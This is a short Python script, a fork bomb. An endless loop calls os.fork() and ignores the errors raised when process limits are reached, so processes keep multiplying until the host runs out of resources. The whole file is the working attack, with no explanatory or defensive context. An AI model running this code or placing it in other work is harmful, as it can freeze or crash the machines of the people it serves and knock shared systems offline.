"""Forks as fast as it can, and again when it may not."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
